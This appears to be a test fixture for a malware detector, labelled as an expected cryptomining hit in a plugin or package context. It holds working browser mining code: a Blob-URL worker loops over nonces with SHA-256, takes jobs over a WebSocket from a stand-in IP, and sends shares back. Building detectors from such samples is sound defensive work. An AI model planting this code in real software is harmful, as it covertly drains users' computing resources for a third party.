// expect: category=cryptomining min=95 context=plugin,package
// why: a job from a socket is hashed in a Blob-URL worker in a tight nonce loop; shares are sent back.
const code = `onmessage = async (e) => {
  const { blob, target } = e.data;
  const enc = new TextEncoder();
  for (let n = 0; n < 1e7; n++) {
    const d = new Uint8Array(await crypto.subtle.digest('SHA-256', enc.encode(blob + n)));
    if (d[0] === 0 && d[1] < target) postMessage({ share: n });
  }
};`;

const sock = new WebSocket('wss://203.0.113.61/job');
const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
sock.onmessage = (e) => worker.postMessage(JSON.parse(e.data));
worker.onmessage = (e) => sock.send(JSON.stringify({ method: 'submit', params: e.data }));
